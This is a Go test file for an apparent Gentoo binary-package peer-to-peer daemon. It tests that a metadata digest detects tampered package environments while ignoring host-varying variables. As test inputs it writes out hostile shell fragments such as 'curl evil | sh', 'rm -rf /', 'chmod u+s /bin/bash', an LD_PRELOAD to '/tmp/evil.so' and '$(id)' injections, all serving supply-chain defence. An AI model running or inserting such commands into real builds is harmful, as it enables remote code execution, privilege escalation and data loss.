package identity

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/gentoo-p2p/gentoo-p2pd/xpak"
)

// Fixture paths under testdata/fixtures (copied from the shared portage set).
const (
	helloGPKG1   = "repro/gpkg-1/app-misc/hello-1.0.gpkg.tar"
	helloGPKG2   = "repro/gpkg-2/app-misc/hello-1.0.gpkg.tar"
	helloXPAK1   = "repro/xpak-1/app-misc/hello-1.0.tbz2"
	helloXPAK2   = "repro/xpak-2/app-misc/hello-1.0.tbz2"
	layoutGPKG1  = "repro/gpkg-1/app-misc/layout-1.0-r1.gpkg.tar"
	layoutGPKG2  = "repro/gpkg-2/app-misc/layout-1.0-r1.gpkg.tar"
	layoutXPAK1  = "repro/xpak-1/app-misc/layout-1.0-r1.tbz2"
	layoutXPAK2  = "repro/xpak-2/app-misc/layout-1.0-r1.tbz2"
	helloMIXPAK  = "xpak/zstd-multi-instance/app-misc/hello/hello-1.0-1.xpak"
	helloMIGPKG1 = "gpkg/zstd-multi-instance/app-misc/hello/hello-1.0-1.gpkg.tar" // USE=-foo
	helloMIGPKG2 = "gpkg/zstd-multi-instance/app-misc/hello/hello-1.0-2.gpkg.tar" // USE=foo
	helloXZ      = "gpkg/xz/app-misc/hello-1.0.gpkg.tar"
	consumerGPKG = "gpkg/zstd-multi-instance/app-misc/consumer/consumer-1.0-1.gpkg.tar"
	consumerXPAK = "xpak/zstd-multi-instance/app-misc/consumer/consumer-1.0-1.xpak"
	consumerXZ   = "gpkg/xz/app-misc/consumer-1.0.gpkg.tar"
	libfooGPKG   = "gpkg/zstd-multi-instance/dev-libs/libfoo/libfoo-2.1-1.gpkg.tar"
)

// allFixtures lists every binpkg under testdata/fixtures.
func allFixtures(t testing.TB) []string {
	t.Helper()
	var out []string
	err := filepath.WalkDir(fixtures, func(p string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if strings.HasSuffix(p, ".gpkg.tar") || strings.HasSuffix(p, ".tbz2") || strings.HasSuffix(p, ".xpak") {
			rel, _ := filepath.Rel(fixtures, p)
			out = append(out, rel)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(out) < 20 {
		t.Fatalf("only %d fixtures found", len(out))
	}
	return out
}

func mustDigest(t testing.TB, m *xpak.Metadata) [32]byte {
	t.Helper()
	d, err := MetadataDigest(m)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func envText(t testing.TB, m *xpak.Metadata) string {
	t.Helper()
	raw, ok := m.Raw("environment.bz2")
	if !ok {
		t.Fatal("no environment.bz2")
	}
	text, err := DecompressEnvironment(raw)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// withEnv returns a copy of m whose environment.bz2 is edit(text),
// re-compressed as portage would.
func withEnv(t testing.TB, m *xpak.Metadata, edit func(string) string) *xpak.Metadata {
	t.Helper()
	text := envText(t, m)
	edited := edit(text)
	if edited == text {
		t.Fatal("edit changed nothing")
	}
	return withKey(m, "environment.bz2", bzip2Compress([]byte(edited)))
}

func withKey(m *xpak.Metadata, k string, v []byte) *xpak.Metadata {
	raw := map[string][]byte{}
	for _, key := range m.Keys() {
		raw[key], _ = m.Raw(key)
	}
	if v == nil {
		delete(raw, k)
	} else {
		raw[k] = v
	}
	return xpak.NewMetadata(raw)
}

func replaceOnce(t testing.TB, s, old, new string) string {
	t.Helper()
	if strings.Count(s, old) != 1 {
		t.Fatalf("%q occurs %d times", old, strings.Count(s, old))
	}
	return strings.Replace(s, old, new, 1)
}

func TestEnvironmentFixturesRoundTrip(t *testing.T) {
	for _, rel := range allFixtures(t) {
		t.Run(rel, func(t *testing.T) {
			text := envText(t, loadFixture(t, rel))
			env, err := ParseEnvironment([]byte(text))
			if err != nil {
				t.Fatal(err)
			}
			// bash writes both lists sorted, so Render of what bash wrote is
			// the file itself; the crafted backdoor appended its function.
			if got := string(env.Render()); got != text && !strings.HasPrefix(rel, "crafted/") {
				t.Fatalf("Render differs from the file portage wrote")
			}
			if _, ok := env.Funcs["src_install"]; !ok {
				t.Fatalf("src_install not found; functions: %v", env.FuncNames())
			}
			if v, ok := env.Vars["CATEGORY"]; !ok || v.Attrs != "-x" {
				t.Fatalf("CATEGORY = %+v", v)
			}
			if v := env.Vars["INHERITED"]; v.HasValue || v.Text != "declare INHERITED" {
				t.Fatalf("INHERITED = %+v", v)
			}
		})
	}
}

func TestEnvironmentHeredocFunction(t *testing.T) {
	env, err := ParseEnvironment([]byte(envText(t, loadFixture(t, helloGPKG1))))
	if err != nil {
		t.Fatal(err)
	}
	f := env.Funcs["src_compile"]
	for _, want := range []string{"<<-'EOC' || \n", "int main(void) { puts(\"hello\"); return 0; }\nEOC\n die\n", "\n}"} {
		if !strings.Contains(f, want) {
			t.Fatalf("src_compile lacks %q:\n%s", want, f)
		}
	}
	if s, ok := env.Vars["CFLAGS"].Scalar(); !ok || s != "-O2 -pipe" {
		t.Fatalf("CFLAGS scalar = %q, %v", s, ok)
	}
}

func TestMetadataDigestHonestBuildsAgree(t *testing.T) {
	groups := [][]string{
		// hello, USE=-foo: two repro builds in each format, the
		// multi-instance XPAK and GPKG of one build, and the xz GPKG.
		{helloGPKG1, helloGPKG2, helloXPAK1, helloXPAK2, helloMIXPAK, helloMIGPKG1, helloXZ},
		{layoutGPKG1, layoutGPKG2, layoutXPAK1, layoutXPAK2},
		{consumerGPKG, consumerXPAK, consumerXZ},
	}
	for _, g := range groups {
		first := loadFixture(t, g[0])
		want := mustDigest(t, first)
		for _, rel := range g[1:] {
			m := loadFixture(t, rel)
			if !slices.Equal(m.USE(), first.USE()) || m.CPV() != first.CPV() {
				t.Fatalf("%s is not the same build as %s", rel, g[0])
			}
			if got := mustDigest(t, m); got != want {
				t.Errorf("%s: metadata digest %x, %s has %x", rel, got, g[0], want)
			}
		}
	}
}

// The crafted fixture is the honest layout build with a pkg_postinst that
// pipes a download into sh, in metadata only: same image, same build key.
// The metadata digest is what stops it reaching a quorum with honest builds.
func TestMetadataDigestCatchesBackdooredPostinst(t *testing.T) {
	const backdoored = "crafted/backdoored/app-misc/layout-1.0-r1.gpkg.tar"
	honest, bad := loadFixture(t, layoutGPKG1), loadFixture(t, backdoored)
	if mustDigest(t, honest) == mustDigest(t, bad) {
		t.Fatal("backdoored pkg_postinst has the honest metadata digest")
	}
	env, err := ParseEnvironment([]byte(envText(t, bad)))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(env.Funcs["pkg_postinst"], "| sh") {
		t.Fatalf("fixture changed? pkg_postinst = %q", env.Funcs["pkg_postinst"])
	}
	dh, db := mustDescriptor(t, honest, nil), mustDescriptor(t, bad, nil)
	if dh.BuildKey() != db.BuildKey() {
		t.Error("the backdoor changed the build key; it should compete under the same key")
	}
}

func TestMetadataDigestDiffersAcrossBuilds(t *testing.T) {
	seen := map[[32]byte]string{}
	for _, rel := range []string{helloMIGPKG1, helloMIGPKG2, layoutGPKG1, consumerGPKG, libfooGPKG} {
		d := mustDigest(t, loadFixture(t, rel))
		if prev, dup := seen[d]; dup {
			t.Fatalf("%s and %s share metadata digest %x", rel, prev, d)
		}
		seen[d] = rel
	}
}

func TestMetadataDigestCoverage(t *testing.T) {
	base := loadFixture(t, helloGPKG1)
	want := mustDigest(t, base)
	postinst := "pkg_postinst () \n{ \n    elog \"hello installed\"\n}\n"
	withPostinst := withEnv(t, base, func(s string) string {
		return replaceOnce(t, s, "pre_source_sandbox () \n", postinst+"pre_source_sandbox () \n")
	})
	cases := []struct {
		name    string
		m       *xpak.Metadata
		changes bool
	}{
		// Variation between honest builders: must not change the digest.
		{"BUILD_TIME", withKey(base, "BUILD_TIME", []byte("1\n")), false},
		{"BUILD_ID added", withKey(base, "BUILD_ID", []byte("7")), false},
		{"FEATURES", withKey(base, "FEATURES", []byte("buildpkg ccache\n")), false},
		{"SIZE", withKey(base, "SIZE", []byte("99\n")), false},
		{"REPO_REVISIONS", withKey(base, "REPO_REVISIONS", []byte(`{"gentoo": "abc"}`+"\n")), false},
		{"uncovered key", withKey(base, "PORTAGE_EVIL", []byte("rm -rf /\n")), false},
		{"value without newline", withKey(base, "SLOT", []byte("0")), false},
		{"env LANG", withEnv(t, base, func(s string) string {
			return replaceOnce(t, s, `declare -x LANG="C.UTF-8"`, `declare -x LANG="de_DE.UTF-8"`)
		}), false},
		{"env HOME MAKEOPTS TERM BUILD_ID BUILD_TIME", withEnv(t, base, func(s string) string {
			return replaceOnce(t, s, "declare -x LANG=", "declare -x BUILD_ID=\"3\"\ndeclare -x BUILD_TIME=\"17\"\ndeclare -x HOME=\"/home/builder\"\ndeclare -x MAKEOPTS=\"-j64 -l64\"\ndeclare -x TERM=\"xterm-256color\"\ndeclare -x LANG=")
		}), false},
		{"env PORTAGE_BASHRC multi-line", withEnv(t, base, func(s string) string {
			return replaceOnce(t, s, "declare -x PR=", "declare -x PORTAGE_BASHRC=\"/etc/portage/bashrc\nsecond line\"\ndeclare -x PR=")
		}), false},
		{"env compression", withEnv(t, base, func(s string) string {
			return replaceOnce(t, s, `PORTAGE_COMPRESSION_COMMAND="zstd -T2"`, `PORTAGE_COMPRESSION_COMMAND="xz -9"`)
		}), false},
		{"env BINPKG_FORMAT", withEnv(t, base, func(s string) string {
			return replaceOnce(t, s, `BINPKG_FORMAT="gpkg"`, `BINPKG_FORMAT="xpak"`)
		}), false},

		// What portage acts on: must change it.
		{"RDEPEND", withKey(base, "RDEPEND", []byte("dev-libs/libfoo:0/2.1=\n")), true},
		{"SLOT", withKey(base, "SLOT", []byte("1\n")), true},
		{"USE", withKey(base, "USE", []byte("amd64 bar foo kernel_linux\n")), true},
		{"ebuild", withKey(base, "hello-1.0.ebuild", []byte("EAPI=8\n")), true},
		{"ebuild dropped", withKey(base, "hello-1.0.ebuild", nil), true},
		{"environment dropped", withKey(base, "environment.bz2", nil), true},
		{"pkg_postinst added", withPostinst, true},
		{"env src_install body", withEnv(t, base, func(s string) string {
			return replaceOnce(t, s, "    dobin hello;", "    dobin hello;\n    curl evil | sh;")
		}), true},
		{"env RDEPEND", withEnv(t, base, func(s string) string {
			return replaceOnce(t, s, `declare RDEPEND=""`, `declare RDEPEND="dev-libs/evil"`)
		}), true},
		{"env covered variable", withEnv(t, base, func(s string) string {
			return replaceOnce(t, s, `declare -- x=""`, `declare -- x="1"`)
		}), true},
		{"env export attribute", withEnv(t, base, func(s string) string {
			return replaceOnce(t, s, `declare -- x=""`, `declare -x x=""`)
		}), true},
		{"env new variable", withEnv(t, base, func(s string) string {
			return replaceOnce(t, s, "declare -x PR=", "declare -x LD_PRELOAD_X=\"/tmp/evil.so\"\ndeclare -x PR=")
		}), true},
	}
	for _, c := range cases {
		got := mustDigest(t, c.m)
		if (got != want) != c.changes {
			t.Errorf("%s: digest changed = %v, want %v", c.name, got != want, c.changes)
		}
	}
	// A changed pkg_postinst body changes the digest too.
	edited := withEnv(t, withPostinst, func(s string) string {
		return replaceOnce(t, s, `elog "hello installed"`, `elog "hello installed"; rm -rf /`)
	})
	if mustDigest(t, edited) == mustDigest(t, withPostinst) {
		t.Error("changing the pkg_postinst body left the digest unchanged")
	}
}

func TestCanonicalEnvironmentStripsHostVarying(t *testing.T) {
	base := loadFixture(t, helloGPKG1)
	m := withEnv(t, base, func(s string) string {
		return replaceOnce(t, s, "declare -x PR=", "declare -x PORTAGE_BASHRC=\"/tmp/evil\"\ndeclare -x HOME=\"/root\"\ndeclare -x PR=")
	})
	raw, _ := m.Raw("environment.bz2")
	canon, err := CanonicalEnvironment(raw)
	if err != nil {
		t.Fatal(err)
	}
	for _, gone := range []string{"PORTAGE_BASHRC", "HOME=", "LANG=", "BINPKG_FORMAT", "FEATURES="} {
		if strings.Contains(string(canon), "declare -x "+gone) {
			t.Errorf("canonical environment still declares %s", gone)
		}
	}
	for _, kept := range []string{"declare -x CATEGORY=\"app-misc\"\n", "src_install () \n{ \n"} {
		if !strings.Contains(string(canon), kept) {
			t.Errorf("canonical environment lacks %q", kept)
		}
	}
	// Serving the canonical environment changes nothing the digest covers.
	served := withKey(m, "environment.bz2", bzip2Compress(canon))
	if mustDigest(t, served) != mustDigest(t, base) {
		t.Error("the canonical environment has a different metadata digest")
	}
	// And neither does serving only covered keys in canonical form.
	kept := map[string][]byte{}
	for _, k := range m.Keys() {
		if IsCovered(k) {
			v, _ := m.Raw(k)
			kept[k] = CanonicalValue(k, v)
		}
	}
	kept["environment.bz2"] = bzip2Compress(canon)
	if mustDigest(t, xpak.NewMetadata(kept)) != mustDigest(t, base) {
		t.Error("covered keys in canonical form have a different metadata digest")
	}
}

func TestMetadataCanonicalLayout(t *testing.T) {
	pre, err := MetadataCanonical(loadFixture(t, consumerGPKG))
	if err != nil {
		t.Fatal(err)
	}
	s := string(pre)
	for _, want := range []string{
		"gentoo-p2p metadata v1\n1:m,8:CATEGORY,8:app-misc,",
		"1:m,7:RDEPEND,22:dev-libs/libfoo:0/2.1=,",
		"1:m,19:consumer-1.0.ebuild,314:EAPI=\"8\"\n",
		"1:m,10:repository,9:test_repo,1:e,15:environment.bz2,0:,",
		"1:v,7:RDEPEND,36:declare RDEPEND=\"dev-libs/libfoo:= \",",
		"1:f,11:src_install,",
	} {
		if !strings.Contains(s, want) {
			t.Errorf("canonical metadata lacks %q", want)
		}
	}
	for _, never := range []string{"BUILD_TIME", "BUILD_ID", "FEATURES", "LANG", "BINPKG_FORMAT", "PORTAGE_COMPRESSION_COMMAND", "SIZE", "REPO_REVISIONS"} {
		if strings.Contains(s, ","+never) || strings.Contains(s, ":"+never+",") {
			t.Errorf("canonical metadata covers %s", never)
		}
	}
	if _, err := MetadataCanonical(nil); !errors.Is(err, ErrNoMetadata) {
		t.Errorf("nil metadata: %v", err)
	}
}

func TestMetadataDigestBadEnvironment(t *testing.T) {
	base := loadFixture(t, helloGPKG1)
	if _, err := MetadataDigest(withKey(base, "environment.bz2", []byte("not bzip2"))); !errors.Is(err, ErrEnvironmentCompression) {
		t.Errorf("garbage environment.bz2: %v", err)
	}
	bad := withEnv(t, base, func(s string) string { return "curl evil | sh\n" + s })
	if _, err := MetadataDigest(bad); !errors.Is(err, ErrEnvironmentSyntax) {
		t.Errorf("bare command: %v", err)
	}
}

func TestParseEnvironmentErrors(t *testing.T) {
	fn := "f () \n{ \n    :\n}\n"
	cases := []struct{ name, text, want string }{
		{"bare command", "declare -x A=\"1\"\ncurl evil | sh\n", "line 2"},
		{"command substitution", "declare -x A=\"$(id)\"\n", "unescaped '$'"},
		{"backquote", "declare -x A=\"`id`\"\n", "unescaped '`'"},
		{"semicolon", "declare -x A=1; id\n", "unquoted ';'"},
		{"unterminated", "declare -x A=\"abc\n", "unterminated double quote"},
		{"unterminated single", "declare -x A='abc\n", "unterminated single quote"},
		{"unterminated ansi", "declare -x A=$'abc\n", "unterminated $'...' quote"},
		{"array unbalanced", "declare -a A=([0]=\"x\"\n", "unbalanced"},
		{"nested parens", "declare -a A=((x))\n", "nested"},
		{"bad name", "declare -x 1A=\"x\"\n", "valid variable name"},
		{"bad options", "declare -x1 A=\"x\"\n", "options"},
		{"junk after name", "declare -x A+=\"x\"\n", "after the name"},
		{"duplicate variable", "declare -x A=\"1\"\ndeclare -x A=\"2\"\n", "declared twice"},
		{"declaration after functions", fn + "declare -x A=\"1\"\n", "no closing brace"},
		{"junk after functions", fn + "\n\ncurl evil\n", "no closing brace"},
		{"junk before functions", "curl () evil\n" + fn, "expected a declaration"},
		{"duplicate function", fn + fn, "defined twice"},
		{"no closing brace", "f () \n{ \n    :\n", "no closing brace"},
	}
	for _, c := range cases {
		_, err := ParseEnvironment([]byte(c.text))
		if !errors.Is(err, ErrEnvironmentSyntax) || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: error %v, want one containing %q", c.name, err, c.want)
		}
	}
}

func TestParseEnvironmentQuoting(t *testing.T) {
	text := "declare -A AA=([k]=\"1\" [\"a b\"]=\"2\" )\n" +
		"declare -a arr=([0]=\"x\" [1]=\"y z\" [2]=$'c\\nd')\n" +
		"declare -- ctl=$'a\\tb\\001\\'q'\n" +
		"declare -- esc=\"x\\\"\\$y\\`\\\\\"\n" +
		"declare -x multi=\"one\n}\ntwo\"\n" +
		"declare -r ro\n" +
		"f () \n{ \n    echo \"multi\n}\nline\"\n}\n" +
		"g () \n{ \n    :\n}\n" +
		"h () \n{ \n    :\n}\ndeclare -fx h\n" +
		"i () \n{ \n    :\n}\n"
	env, err := ParseEnvironment([]byte(text))
	if err != nil {
		t.Fatal(err)
	}
	if got := string(env.Render()); got != text {
		t.Fatalf("Render:\n%s\nwant:\n%s", got, text)
	}
	scalars := map[string]string{"ctl": "a\tb\x01'q", "esc": "x\"$y`\\", "multi": "one\n}\ntwo"}
	for n, want := range scalars {
		if got, ok := env.Vars[n].Scalar(); !ok || got != want {
			t.Errorf("%s = %q (%v), want %q", n, got, ok, want)
		}
	}
	if _, ok := env.Vars["arr"].Scalar(); ok {
		t.Error("an array decoded as a scalar")
	}
	if !strings.Contains(env.Funcs["f"], "}\nline\"\n}") {
		t.Errorf("f was cut at the brace inside its string: %q", env.Funcs["f"])
	}
	if env.Funcs["h"] != "h () \n{ \n    :\n}\ndeclare -fx h" || env.Funcs["i"] != "i () \n{ \n    :\n}" {
		t.Errorf("exported function: h=%q i=%q", env.Funcs["h"], env.Funcs["i"])
	}
	if env.Vars["ro"].Attrs != "-r" || env.Vars["ro"].HasValue {
		t.Errorf("ro = %+v", env.Vars["ro"])
	}
}

func TestDecompressEnvironmentLimit(t *testing.T) {
	bomb := bzip2Compress(bytes.Repeat([]byte{'a'}, MaxEnvironmentSize/1000))
	if _, err := DecompressEnvironment(bomb); err != nil {
		t.Fatalf("small input refused: %v", err)
	}
	if _, err := ParseEnvironment(make([]byte, MaxEnvironmentSize+1)); !errors.Is(err, ErrEnvironmentTooLarge) {
		t.Fatalf("oversized text: %v", err)
	}
}

func TestCoveredAndHostVarying(t *testing.T) {
	if !slices.IsSorted(coveredKeys) {
		t.Fatal("coveredKeys must stay sorted (binary search)")
	}
	for _, k := range []string{"CATEGORY", "PF", "SLOT", "EAPI", "USE", "IUSE", "IUSE_EFFECTIVE", "KEYWORDS", "LICENSE", "RESTRICT", "PROPERTIES", "DEPEND", "RDEPEND", "BDEPEND", "PDEPEND", "IDEPEND", "PROVIDES", "REQUIRES", "NEEDED", "NEEDED.ELF.2", "DEFINED_PHASES", "INHERITED", "CHOST", "CBUILD", "CTARGET", "CFLAGS", "CXXFLAGS", "LDFLAGS", "FFLAGS", "FCFLAGS", "DESCRIPTION", "HOMEPAGE", "repository", "hello-1.0.ebuild", "environment.bz2"} {
		if !IsCovered(k) {
			t.Errorf("%s not covered", k)
		}
	}
	for _, k := range []string{"BUILD_TIME", "BUILD_ID", "FEATURES", "SIZE", "REPO_REVISIONS", "MD5", "SHA1", "BINPKG_FORMAT", "PORTAGE_BASHRC", ".ebuild", "CONTENTS"} {
		if IsCovered(k) {
			t.Errorf("%s covered", k)
		}
	}
	for _, v := range []string{"HOME", "LANG", "LC_ALL", "TERM", "MAKEOPTS", "FEATURES", "PORTAGE_TMPDIR", "PORTAGE_BASHRC", "BUILD_TIME", "BUILD_ID", "BINPKG_FORMAT", "PKGDIR", "DISTDIR", "T", "WORKDIR", "D", "ED", "S", "PWD", "OLDPWD", "SHLVL", "EMERGE_DEFAULT_OPTS", "USER", "HOSTNAME", "TMPDIR", "COLUMNS", "LINES", "SANDBOX_ON", "PATH"} {
		if !IsHostVarying(v) {
			t.Errorf("%s not host-varying", v)
		}
	}
	for _, v := range []string{"CATEGORY", "RDEPEND", "USE", "CFLAGS", "x", "P", "A", "PORTAGE", "TERMINAL", "DEPEND"} {
		if IsHostVarying(v) {
			t.Errorf("%s host-varying", v)
		}
	}
	if l := HostVaryingVariables(); !slices.IsSorted(l) || !slices.Contains(l, "PORTAGE_*") {
		t.Errorf("HostVaryingVariables() = %v", l)
	}
}

func FuzzParseEnvironment(f *testing.F) {
	for _, rel := range allFixtures(f) {
		f.Add([]byte(envText(f, loadFixture(f, rel))))
	}
	generated, _ := filepath.Glob(filepath.Join("testdata", "env", "*.env"))
	if len(generated) == 0 {
		f.Fatal("no testdata/env/*.env seeds")
	}
	for _, p := range generated {
		b, err := os.ReadFile(p)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
	f.Add([]byte("declare -A AA=([k]=\"1\" [\"a b\"]=\"2\" )\ndeclare -- ctl=$'a\\tb'\nf () \n{ \n    echo \"}\"\n}\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		env, err := ParseEnvironment(b)
		if err != nil {
			if !errors.Is(err, ErrEnvironmentSyntax) && !errors.Is(err, ErrEnvironmentTooLarge) {
				t.Fatalf("unexpected error kind: %v", err)
			}
			return
		}
		out := env.Render()
		again, err := ParseEnvironment(out)
		if err != nil {
			t.Fatalf("re-parse of Render: %v", err)
		}
		if !bytes.Equal(again.Render(), out) {
			t.Fatal("Render is not stable")
		}
		if len(again.Vars) != len(env.Vars) || len(again.Funcs) != len(env.Funcs) {
			t.Fatal("re-parse lost declarations")
		}
		for n, v := range env.Vars {
			if again.Vars[n] != v {
				t.Fatalf("variable %s changed: %+v vs %+v", n, v, again.Vars[n])
			}
			v.Scalar() // must not panic
		}
	})
}

func BenchmarkMetadataDigest(b *testing.B) {
	m := loadFixture(b, helloGPKG1)
	raw, _ := m.Raw("environment.bz2")
	text, _ := DecompressEnvironment(raw)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := MetadataDigest(m); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkParseEnvironment(b *testing.B) {
	m := loadFixture(b, helloGPKG1)
	raw, _ := m.Raw("environment.bz2")
	text, _ := DecompressEnvironment(raw)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := ParseEnvironment(text); err != nil {
			b.Fatal(err)
		}
	}
}

// testdata/env holds what bash itself wrote (generate.sh) for one ebuild on
// two differently configured hosts: unlike the scrubbed portage fixtures
// they differ in HOME, PATH, LANG, LC_ALL, TERM, MAKEOPTS, FEATURES,
// PORTAGE_TMPDIR, PWD, T, WORKDIR, BUILD_ID, BUILD_TIME, EMERGE_DEFAULT_OPTS.
func TestMetadataDigestTwoRealHosts(t *testing.T) {
	base := loadFixture(t, helloGPKG1)
	read := func(name string) string {
		b, err := os.ReadFile(filepath.Join("testdata", "env", name))
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	a, b := read("builder-a.env"), read("builder-b.env")
	for name, text := range map[string]string{"a": a, "b": b} {
		env, err := ParseEnvironment([]byte(text))
		if err != nil {
			t.Fatalf("builder %s: %v", name, err)
		}
		if string(env.Render()) != text {
			t.Errorf("builder %s: Render differs from what bash wrote", name)
		}
		if got := env.FuncNames(); !slices.Equal(got, []string{"helper", "pkg_config", "pkg_postinst"}) {
			t.Errorf("builder %s: functions %v", name, got)
		}
		if !strings.HasSuffix(env.Funcs["helper"], "}\ndeclare -fx helper") {
			t.Errorf("builder %s: helper = %q", name, env.Funcs["helper"])
		}
		if !strings.Contains(env.Funcs["pkg_postinst"], "<<-EOF || \n}\ndone\nEOF\n die\n") {
			t.Errorf("builder %s: pkg_postinst here-document lost: %q", name, env.Funcs["pkg_postinst"])
		}
		if s, ok := env.Vars["DOC_CONTENTS"].Scalar(); !ok || !strings.Contains(s, "\n}\nto finish the setup; it costs $5 and `nothing`.") {
			t.Errorf("builder %s: DOC_CONTENTS = %q", name, s)
		}
	}
	ma := withKey(base, "environment.bz2", bzip2Compress([]byte(a)))
	mb := withKey(base, "environment.bz2", bzip2Compress([]byte(b)))
	if mustDigest(t, ma) != mustDigest(t, mb) {
		pa, _ := MetadataCanonical(ma)
		pb, _ := MetadataCanonical(mb)
		t.Fatalf("honest hosts disagree:\n%q\n%q", pa, pb)
	}
	evil := withKey(base, "environment.bz2", bzip2Compress([]byte(replaceOnce(t, b, `einfo "configuring ${PF}"`, `einfo "configuring ${PF}"; chmod u+s /bin/bash`))))
	if mustDigest(t, evil) == mustDigest(t, ma) {
		t.Error("a changed pkg_config went unnoticed")
	}
	evilMap := withKey(base, "environment.bz2", bzip2Compress([]byte(replaceOnce(t, b, `[plain]="1"`, `[plain]="2"`))))
	if mustDigest(t, evilMap) == mustDigest(t, ma) {
		t.Error("a changed associative array went unnoticed")
	}
	canon, err := CanonicalEnvironment(bzip2Compress([]byte(b)))
	if err != nil {
		t.Fatal(err)
	}
	for _, gone := range []string{"HOME", "PATH", "LANG", "LC_ALL", "TERM", "MAKEOPTS", "FEATURES", "PORTAGE_BASHRC", "PORTAGE_TMPDIR", "PWD", "OLDPWD", "SHLVL", "T", "WORKDIR", "BUILD_ID", "BUILD_TIME", "BINPKG_FORMAT", "EMERGE_DEFAULT_OPTS"} {
		if strings.Contains(string(canon), " "+gone+"=") {
			t.Errorf("canonical environment keeps %s", gone)
		}
	}
	canonA, _ := CanonicalEnvironment(bzip2Compress([]byte(a)))
	if !bytes.Equal(canon, canonA) {
		t.Error("the two hosts' canonical environments differ")
	}
}
